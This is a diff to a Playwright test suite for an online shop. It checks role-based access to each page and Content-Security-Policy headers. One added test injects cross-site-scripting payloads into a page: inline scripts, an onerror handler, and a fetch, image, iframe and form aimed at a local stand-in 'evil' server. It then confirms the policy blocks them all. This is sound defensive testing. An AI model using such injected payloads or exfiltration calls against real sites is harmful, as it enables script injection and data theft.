@@ -1,4 +1,7 @@
-// Every URL as guest, as each member type, as seller and platform: the right door, no error in the page, nothing wider than the window.
+// Every URL as guest, as each member type, as seller and platform: the right door, no error in the page, nothing against its policy, nothing wider than the window.
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Response } from '@playwright/test';
 import { adminScreens } from '#screens/admin/routes.ts';
 import { memberScreens } from '#screens/member/routes.ts';
 import { isLater, type Screen, type Who } from '#screens/screen.ts';
@@ -19,13 +22,17 @@ const visitors: { name: string; account?: string; may: readonly Who[] }[] = [
   { name: 'buyer01', account: 'buyer01', may: ['anyone', 'member', 'notDesigner'] },
   { name: 'designer01', account: 'designer01', may: ['anyone', 'member', 'designer'] },
   { name: 'company01', account: 'company01', may: ['anyone', 'member', 'notDesigner', 'enterprise'] },
-  { name: 'seller01', account: 'seller01', may: ['anyone', 'member', 'notDesigner', 'seller'] },
+  {
+    name: 'seller01',
+    account: 'seller01',
+    may: ['anyone', 'member', 'notDesigner', 'enterprise', 'seller'],
+  },
   { name: 'admin01', account: 'admin01', may: ['anyone', 'member', 'notDesigner', 'admin'] },
 ];
 
 /** Screens that lead on at once: from the bare area to its first page, or away from a page that needs something chosen. */
 const LEADS_ON =
-  /^\/(member|seller|admin)?$|^\/(login|register|buy\/(pay|confirm))$|^\/member\/order\/(detail|logistics|evaluate)$|^\/seller\/order\/detail$/;
+  /^\/(member|seller|admin)?$|^\/(login|register|pwd\/forget|bindMobile|buy\/(pay|confirm))$|^\/member\/order\/(detail|logistics|evaluate)$|^\/seller\/order\/detail$/;
 
 /** Addresses with what they need to show something. */
 const WITH_QUERY: Record<string, string> = {
@@ -37,15 +44,23 @@ const WITH_QUERY: Record<string, string> = {
   '/store/product': '?vid=1',
 };
 
+/** From where a page may run scripts. What a page does against its policy, Chromium reports as an error of the page. */
+const scriptsOf = (response: Response) =>
+  /script-src ([^;]+);/.exec(response.headers()['content-security-policy'] ?? '')?.[1] ?? '';
+/** This site, and the hashes of what the renderer has written. */
+const STRICT = /^'self'( 'sha256-[\w+/]{43}=')+$/;
+
 for (const { name, account, may } of visitors) {
   test(`every screen opens for ${name} as it should`, async ({ page }) => {
-    test.setTimeout(300_000);
+    test.setTimeout(600_000);
     if (account) await enterAs(page, account);
     const wide: string[] = [];
+    const astray: string[] = [];
     for (const { url, who } of name === 'guest' || name === 'company01' ? screens : built) {
       const asked = url + (WITH_QUERY[url] ?? '');
       const response = await page.goto(asked, { waitUntil: 'domcontentloaded' });
       expect(response!.status(), url).toBeLessThan(400);
+      expect(scriptsOf(response!), url).toMatch(STRICT);
       await settled(page);
       if (!may.includes(who)) {
         const wayBack = url === '/member' ? '/member/index' : asked; // the area leads on before its door is reached
@@ -53,9 +68,11 @@ for (const { name, account, may } of visitors) {
         await expect(page, `${url} for ${name}`).toHaveURL(door);
         continue;
       }
-      if (!LEADS_ON.test(url)) expect(new URL(page.url()).pathname, `${url} for ${name}`).toBe(url);
+      const stands = new URL(page.url()).pathname;
+      if (!LEADS_ON.test(url) && stands !== url) astray.push(`${url} leads to ${stands}`);
       wide.push(...(await tooWide(page)));
     }
+    expect(astray).toEqual([]);
     expect(wide).toEqual([]);
   });
 }
@@ -93,4 +110,65 @@ test('the page is alive: language switch and hydration', async ({ page }) => {
   await expect(page.locator('html')).toHaveAttribute('lang', 'en');
   await page.goto('/goods/list');
   await expect(page.locator('html')).toHaveAttribute('lang', 'en');
+});
+
+test('a script that somebody got into a page does not run, and tells nobody anything', async ({
+  browser,
+}) => {
+  let heard = 0;
+  const evil = createServer((_request, response) => {
+    heard++;
+    response.end();
+  });
+  await new Promise<void>((done) => void evil.listen(0, '127.0.0.1', done));
+  const page = await browser.newPage(); // not watched: its errors are what is expected
+  await page.goto('/index');
+  const ran = await page.evaluate(
+    async (there) => {
+      const refused = new Set<string>();
+      document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
+      const script = document.createElement('script');
+      script.textContent = 'window.stolen = true';
+      const foreign = document.createElement('script');
+      foreign.src = `${there}/x.js`;
+      const style = document.createElement('style');
+      style.textContent = `body { background: url(${there}/x.png) }`;
+      document.head.append(script, foreign, style);
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        `<img src="/none.png" onerror="window.stolen = true"><img src="${there}/y.png"><iframe src="${there}/"></iframe>`,
+      );
+      await fetch(`${there}/?take=it`).catch(() => {});
+      const form = document.createElement('form');
+      form.action = `${there}/`;
+      document.body.append(form);
+      form.submit();
+      await new Promise((done) => setTimeout(done, 500));
+      return { stolen: 'stolen' in window, still: location.pathname, refused: [...refused] };
+    },
+    `http://127.0.0.1:${(evil.address() as AddressInfo).port}`,
+  );
+  expect(ran).toMatchObject({ stolen: false, still: '/index' });
+  expect(ran.refused).toEqual(
+    expect.arrayContaining([
+      'script-src-elem',
+      'script-src-attr',
+      'style-src-elem',
+      'img-src',
+      'frame-src',
+      'connect-src',
+    ]),
+  );
+  expect(heard).toBe(0);
+  await page.close();
+  evil.close();
+});
+
+test('no other site can put the mall into a frame, and its cookie is the server’s alone', async ({
+  request,
+}) => {
+  const headers = (await request.get('/login?lang=zh')).headers();
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(headers['x-frame-options']).toBe('DENY');
+  expect(headers['set-cookie']).toMatch(/^lang=zh;.*HttpOnly; SameSite=Lax$/);
 });
